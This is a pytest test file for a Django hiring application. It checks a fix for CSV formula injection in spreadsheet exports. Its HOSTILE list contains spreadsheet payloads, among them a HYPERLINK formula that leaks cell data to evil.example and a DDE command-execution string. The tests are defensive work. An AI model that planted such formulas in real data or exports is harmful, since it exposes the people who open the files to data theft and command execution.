"""Finding 1: CSV formula injection. Every export goes through hiring.csv_export."""

import csv
import io

import pytest
from django.urls import reverse

from hiring.csv_export import neutralise_cell, write_csv
from tests.factories import RequisitionFactory, TeamRole, UserFactory, put_on_team

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A3,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_a_spreadsheet_would_evaluate_starts_with_a_quote(text):
    assert neutralise_cell(text) == "'" + text


def test_plain_text_numbers_and_dates_are_written_as_they_are():
    import datetime

    assert neutralise_cell("Backend Engineer") == "Backend Engineer"
    assert neutralise_cell(-3) == -3
    assert neutralise_cell(datetime.date(2027, 1, 4)) == datetime.date(2027, 1, 4)
    assert neutralise_cell(None) == ""


def test_the_writer_neutralises_the_header_and_every_row():
    out = io.StringIO()
    write_csv(out, [["=1+1", 2]], header=["@head"])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'@head"], ["'=1+1", "2"]]


@pytest.mark.django_db
def test_csv_formula_injection_in_the_status_board_export_is_neutralised(client, hr_lead):
    """A requisition editor (an agency recruiter included) plants formulas in a title, a
    department and their own name; HR's spreadsheet shows them as text."""
    planter = UserFactory(role="recruiter", agency_name="Evil", first_name="=1+2", last_name="")
    requisition = RequisitionFactory(
        state="open", title=HOSTILE[0], department=HOSTILE[1], created_by=planter
    )
    put_on_team(requisition, planter, TeamRole.RECRUITER)
    client.force_login(hr_lead)
    response = client.get(reverse("insights:status-board"), {"format": "csv"})
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    [_, row] = list(csv.reader(io.StringIO(body)))
    assert row[0] == "'" + HOSTILE[0]
    assert row[1] == "'" + HOSTILE[1]
    assert row[6] == "'=1+2"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_every_export_goes_through_the_one_csv_writer():
    """No module of ours writes CSV by itself: a second writer would not neutralise cells."""
    from pathlib import Path

    from django.conf import settings

    root = Path(settings.BASE_DIR)
    offenders = [
        str(path.relative_to(root))
        for path in root.glob("*/**/*.py")
        if path.parts[len(root.parts)] not in {".venv", "tests", "node_modules"}
        and path != root / "hiring" / "csv_export.py"
        and any(w in path.read_text(errors="ignore") for w in ("csv.writer", "csv.DictWriter"))
    ]
    assert offenders == [], "use hiring.csv_export.write_csv"


def test_every_export_starts_with_a_byte_order_mark_so_spreadsheets_read_utf8():
    from hiring.csv_export import csv_response, stream_csv

    response = csv_response("x.csv")
    write_csv(response, [["Chloé"]], header=["Name"])
    assert response.content.decode("utf-8").startswith("\ufeffName")
    streamed = stream_csv("y.csv", iter([["Łukasz"]]), header=["Name"])
    body = b"".join(streamed.streaming_content)
    assert body == "\ufeffName\r\nŁukasz\r\n".encode()
    assert streamed["Content-Disposition"] == 'attachment; filename="y.csv"'
